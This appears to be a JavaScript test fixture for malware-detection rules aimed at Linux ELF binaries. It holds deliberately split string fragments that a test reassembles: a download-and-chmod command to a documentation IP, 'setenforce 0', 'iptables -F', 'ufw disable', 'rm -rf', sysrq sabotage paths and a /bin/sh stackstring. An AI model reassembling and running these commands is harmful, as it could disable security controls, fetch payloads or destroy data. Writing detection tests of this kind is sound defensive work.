/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'ELF_Shell_And_Raw_Ip_C2', as: 'executable',
    lines: [
      ["http://192.0", ".2.7/gate.php"],
      ["/bin/", "sh"],
      ["User-Agent: Moz", "illa/5.0"],
      ["for", "k"],
      ["conn", "ect"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Downloads_And_Chmods', as: 'executable',
    lines: [
      ["wg", "et -q http://192.0.2.7/a -O /tm", "p/a"],
      ["chm", "od 777 /tmp/a"],
      ["sys", "tem"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Anti_Debug_Status', as: 'executable',
    lines: [
      ["Tracer", "Pid"],
      ["/proc/self/", "status"],
      ["VMw", "are"],
      ["QE", "MU"],
      ["conn", "ect"],
      ["/bin/", "sh"],
      ["str", "ace"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Self_Copy_Hidden', as: 'executable',
    lines: [
      ["/proc/self/", "exe"],
      ["/tmp/.", "sysd"],
      ["@reb", "oot"],
      ["conn", "ect"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Deletes_Itself_And_Daemonizes', as: 'executable',
    lines: [
      ["/proc/self/", "exe"],
      ["unl", "ink"],
      ["sets", "id"],
      ["prc", "tl"],
      ["inet_", "addr"],
      ["/bin/", "sh"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Disables_Security_Services', as: 'executable',
    lines: [
      ["seten", "force 0"],
      ["ipta", "bles -F"],
      ["ufw dis", "able"],
      ["conn", "ect"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Cloud_Agent_Uninstaller', as: 'executable',
    lines: [
      ["/usr/local/ae", "gis"],
      ["Yun", "Jing"],
      ["rm -", "rf"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Xor_Encoded_Config', as: 'executable',
    lines: [
      ["\r@KL\r@WQ[@MZ"],
      ["\rGVA\rAPMLVC@"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Stackstring_Bin_Sh', as: 'executable',
    lines: [
      ["h//shh/bin\u0089\u00e3"],
      ["x"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Socks_Proxy_Bot', as: 'executable',
    lines: [
      ["soc", "ks5"],
      ["bot_", "id"],
      ["heart", "beat"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Mount_Sysrq_Sabotage', as: 'executable',
    lines: [
      ["/proc/sys", "rq-trigger"],
      ["/proc/sys/kernel/sys", "rq"],
      ["mk", "fs"],
      ["rm -", "rf"],
    ],
    without: 0,
  },
  {
    rule: 'ELF_Proc_Name_Camouflage', as: 'executable',
    lines: [
      ["/usr/sbin/rsys", "logd -n"],
      ["prc", "tl"],
      ["conn", "ect"],
      ["/bin/", "sh"],
      ["sets", "id"],
    ],
    without: 0,
  },
];
